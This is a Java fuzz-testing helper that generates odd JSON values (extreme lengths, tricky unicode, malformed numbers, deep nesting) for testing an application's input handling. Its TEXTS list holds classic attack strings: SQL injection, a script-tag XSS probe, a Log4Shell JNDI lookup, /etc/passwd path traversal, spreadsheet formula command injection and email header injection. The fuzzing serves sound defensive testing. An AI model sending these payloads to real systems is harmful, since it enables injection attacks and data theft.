package com.acmecorp.app.fuzz;

import io.vertx.core.json.Json;

import java.util.List;
import java.util.random.RandomGenerator;

/** Values as JSON writes them, of every type, and such that programs stumble over them. */
record OddValues(RandomGenerator random) {

    private static final List<Integer> LENGTHS =
            List.of(0, 1, 2, 16, 40, 41, 101, 200, 201, 255, 1_000, 2_001, 8_000, 40_000);

    private static final List<String> PARTS = List.of(
            "a",
            "A",
            "0",
            "9",
            " ",
            ",",
            ".",
            "-",
            "@",
            "A,",
            "a.",
            "a@",
            "\u00E4",
            "\uD83C\uDF35",
            "\u0301",
            "\u200D",
            "\u202E",
            "\u00A0",
            "'",
            "\"",
            "\\",
            "<",
            "%00",
            "\n",
            "\t",
            "\u2028",
            "\u3164",
            "\uFFFD");

    private static final List<String> TEXTS = List.of(
            "'; DROP TABLE orders; --",
            "\" OR \"\"=\"",
            "{ __schema { types { name } } }",
            "<script>alert(1)</script>",
            "${jndi:ldap://example.com}",
            "../../etc/passwd",
            "%s%n%x",
            "=cmd|' /C calc'!A0",
            "\u0007",
            "\r\nBcc: a@b.example",
            "http://evil.example",
            "US\n",
            "B2C\r",
            "BB001,LB001\u2028",
            "2026-11-30T00:00:00Z",
            "null",
            "true",
            "1e9");

    private static final List<String> NUMBERS = List.of(
            "0",
            "-0",
            "-1",
            "1",
            "1.0",
            "0.1",
            "1e9",
            "1E400",
            "-1e400",
            "1e-400",
            "1e999999999",
            "01",
            "+1",
            ".5",
            "1.",
            "NaN",
            "Infinity",
            "0x10",
            "2147483648",
            "9007199254740993",
            "9223372036854775808",
            "1e+",
            "--1");

    private static final List<String> OTHERS = List.of(
            "true",
            "false",
            "null",
            "[]",
            "{}",
            "[[]]",
            "[1,2]",
            "{\"a\":1}",
            "{\"\":0}",
            "tru",
            "nul",
            "\"",
            "'a'",
            "\"\\ud800\"",
            "\"\\udc00\\ud800\"",
            "\"\\u0000\"",
            "\"\\x\"",
            "\"\\u12\"",
            "\"a\nb\"",
            "undefined",
            "/**/1");

    String any() {
        return switch (random.nextInt(7)) {
            case 0, 1 -> Json.encode(repeated());
            case 2 -> Json.encode(pick(TEXTS));
            case 3 -> pick(NUMBERS);
            case 4 -> pick(OTHERS);
            case 5 -> Json.encode(anyText());
            default -> nestedOrEndless();
        };
    }

    /** A text of one part over and over, as long as an edge of what is allowed. */
    String repeated() {
        String part = pick(PARTS);
        int length = pick(LENGTHS);
        return part.repeat(Math.ceilDiv(length, part.length())) + (random.nextBoolean() ? "!" : "");
    }

    private String anyText() {
        StringBuilder text = new StringBuilder();
        for (int length = random.nextInt(1, 60); length > 0; length--) {
            int c = random.nextInt(random.nextInt(3) == 0 ? 0x110000 : 0x300);
            text.appendCodePoint(c >= 0xD800 && c < 0xE000 ? 'x' : c);
        }
        return text.toString();
    }

    private String nestedOrEndless() {
        int depth = random.nextInt(1, 2_000);
        return switch (random.nextInt(4)) {
            case 0 -> "[".repeat(depth) + "]".repeat(depth);
            case 1 -> "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
            case 2 -> "9".repeat(depth);
            default -> "[" + "1,".repeat(depth) + "1]";
        };
    }

    <T> T pick(List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }
}
